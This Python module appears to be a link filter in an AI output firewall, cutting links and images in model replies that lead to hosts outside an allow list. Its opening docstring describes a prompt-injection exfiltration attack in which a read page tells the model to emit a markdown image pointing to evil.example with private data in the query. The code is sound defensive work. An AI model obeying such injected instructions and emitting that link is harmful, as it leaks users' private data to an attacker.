"""Links: what a chat client would fetch or make clickable leads to hosts of the list, and nowhere else.

The attack: a page that the model has read tells it to write `![x](https://evil.example/?d=…)` with something
private in the query. The client fetches the image, and nobody has clicked on anything. Whatever could be
fetched or followed is therefore cut out, whatever it says: no recognising of private text is relied on.

One kind of link stays beside those of the list: one that stands whole in what the turn may read and that no
model wrote first. Nothing can be said by repeating it. An image is never among them, since fetching it would
tell its owner when somebody reads.
"""

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace

from firewall.core.ids import TenantId
from firewall.core.label import Operator
from firewall.core.ports import Match
from firewall.core.steps import Steps, at_once, paced
from firewall.core.subject import Form, Leaf, Outbound, SubjectKind
from firewall.core.verdict import Allow, Case, Deny, Finding, ReasonCode, Redact, Severity, Verdict
from firewall.detect.blocks import BLOCK, blocks
from firewall.detect.links.finder import Link, links
from firewall.detect.links.given import Given
from firewall.detect.links.hosts import HostList, key_of
from firewall.detect.marker import LINK, marker

URL, IMAGE = "link.url", "link.image"
SHADOW_FAILED = "shadow_failed"
PIPES = "slack"
# Keys of the platforms' objects whose whole value is an address, and those that a client fetches by itself.
_FETCHED = frozenset(
    {
        *("image_url", "thumb_url", "icon_url", "proxy_url", "proxy_icon_url", "avatar_url", "author_icon"),
        *("footer_icon", "video_url", "thumbnail_url", "provider_icon_url", "from_url", "original_url"),
        *("photo_url", "gif_url", "mpeg4_url", "audio_url", "voice_url", "document_url", "small_url"),
    }
)
_FOLLOWED = frozenset({"url", "title_link", "author_link", "title_url", "fallback_url"})
_MEDIA = frozenset({"image", "thumbnail", "video", "media", "file"})
# A file that goes out with the same call.
_ENCLOSED = re.compile(r"attach(?:ment)?://[\w.-]+")
# The body and the name of a file are shown by no client as a text with links.
_FILED = re.compile(r"name|content|files\.[0-9]+\.(?:name|content)")


@dataclass(frozen=True, slots=True, kw_only=True)
class Links:
    """Cuts out links that lead elsewhere.

    Attributes:
        hosts: Where links of everybody may lead.
        tenants: Where links of one tenant's turns may lead as well.
        given: Knows what a turn was given.
        shadow: True only records what would have been done; not one byte changes.
    """

    hosts: HostList
    given: Given
    tenants: Mapping[TenantId, HostList] = field(default_factory=dict[TenantId, HostList])
    shadow: bool = False
    name: str = "links"
    watches: frozenset[SubjectKind] = frozenset({SubjectKind.MODEL_REPLY, SubjectKind.OUTBOUND})

    async def judge(self, case: Case) -> Verdict:
        """Ask for every link that leads elsewhere to be cut, or deny where it cannot be."""
        try:
            return await paced(self._judged(case))
        except Exception:
            if not self.shadow:
                raise
            return Allow(findings=(Finding(rule=SHADOW_FAILED, leaf=0, start=0, stop=0, shadow=True),))

    def _judged(self, case: Case) -> Steps[Verdict]:
        redactions: list[Redact] = []
        findings: list[Finding] = []
        for index, each in enumerate(case.subject.leaves):
            for match in (yield from self._matches(case, each)):
                findings.append(_finding(match, index, shadow=self.shadow))
                if self.shadow:
                    continue
                if each.fixed or _address(each) is not None:
                    return Deny(reason=ReasonCode.LINK_REFUSED, rule=match.rule, findings=tuple(findings))
                redactions.append(_redact(match, index))
        return Allow(findings=tuple(findings), obligations=tuple(redactions))

    def matches(self, case: Case, each: Leaf) -> Sequence[Match]:
        """Find the links of one leaf that may not stand."""
        return at_once(self._matches(case, each))

    def _matches(self, case: Case, each: Leaf) -> Steps[Sequence[Match]]:
        if not each.text or not _shown(case, each):
            return ()
        lists = [self.hosts, *(own for own in (self.tenants.get(case.tenant),) if own is not None)]
        if any(one.every for one in lists):
            return ()
        pipes = case.turn.key.channel == PIPES
        fetched = _address(each)
        found = (
            _whole(each.text, fetched=fetched) if fetched is not None else (yield from _in(each.text, pipes))
        )
        left = [
            link
            for link in found
            if not any(one.admits(link.url) for one in lists) and not _operators(each, link)
        ]
        given = self.given.keys(case.read, pipes=pipes) if left else ()
        return [_match(link) for link in left if link.fetched or key_of(link.url) not in given]


def _in(text: str, pipes: bool) -> Steps[Sequence[Link]]:
    """Find every link of a text, a block at a time."""
    if len(text) <= BLOCK:
        return links(text, pipes=pipes)
    found: list[Link] = []
    for start, stop in blocks(text):
        yield
        found += (
            replace(link, start=start + link.start, stop=start + link.stop)
            for link in links(text[start:stop], pipes=pipes)
        )
    return found


def _match(link: Link) -> Match:
    rule = IMAGE if link.fetched else URL
    return Match(start=link.start, stop=link.stop, kind=LINK, rule=rule, key=key_of(link.url))


def _shown(case: Case, each: Leaf) -> bool:
    """False for what no client shows: arguments of calls, notes, and what is inside of a file."""
    subject = case.subject
    if not isinstance(subject, Outbound):
        return not each.fixed
    if subject.form is Form.NOTE or each.slot in subject.names:
        return False
    return subject.form is not Form.FILE or _FILED.fullmatch(each.slot) is None


def _address(each: Leaf) -> bool | None:
    """Say of a leaf that is one address whether it is fetched; None for a text."""
    *above, key = each.slot.split(".")
    if key in _FETCHED:
        return True
    if not above or key not in _FOLLOWED:
        return None
    return any(step in _MEDIA for step in above)


def _whole(text: str, *, fetched: bool) -> Sequence[Link]:
    """Take a whole text as one link; a file that goes along is none."""
    if _ENCLOSED.fullmatch(text):
        return ()
    return (Link(start=0, stop=len(text), url=text, fetched=fetched),)


def _operators(each: Leaf, link: Link) -> bool:
    """True if every character of a link is the operator's own."""
    offset = 0
    for span in each.spans:
        operators = span.source is not None and isinstance(span.source.label, Operator)
        if not operators and offset < link.stop and link.start < offset + len(span.text):
            return False
        offset += len(span.text)
    return True


def _finding(match: Match, index: int, *, shadow: bool) -> Finding:
    return Finding(rule=match.rule, leaf=index, start=match.start, stop=match.stop, shadow=shadow)


def _redact(match: Match, index: int) -> Redact:
    return Redact(
        rule=match.rule,
        leaf=index,
        start=match.start,
        stop=match.stop,
        marker=marker(match.kind),
        severity=Severity.MEDIUM if match.rule == IMAGE else Severity.LOW,
    )
